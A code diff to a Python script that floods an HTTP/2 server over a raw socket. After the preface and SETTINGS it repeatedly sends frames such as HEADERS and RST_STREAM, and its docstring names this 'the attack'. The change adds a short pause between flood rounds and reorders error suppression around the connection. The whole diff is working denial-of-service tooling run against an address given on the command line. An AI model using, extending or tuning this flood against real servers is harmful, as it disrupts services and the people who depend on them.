@@ -17,6 +17,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
 END_HEADERS = 4
 FRAMES_A_SEND = 200
+PAUSE_S = 0.01
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -58,7 +59,7 @@ def flood(address: str, kind: str) -> int:
     """Send the attack over one connection until the other side ends it; return how many times."""
     host, port = address.rsplit(":", 1)
     sent = 0
-    with socket.create_connection((host, int(port)), timeout=5) as connection, suppress(OSError):
+    with suppress(OSError), socket.create_connection((host, int(port)), timeout=5) as connection:
         connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
         connection.setblocking(True)
         while True:
@@ -88,3 +89,4 @@ if __name__ == "__main__":
     while time.monotonic() < until:
         sys.stdout.write(f"{flood(sys.argv[1], sys.argv[2])}\n")
         sys.stdout.flush()
+        time.sleep(PAUSE_S)
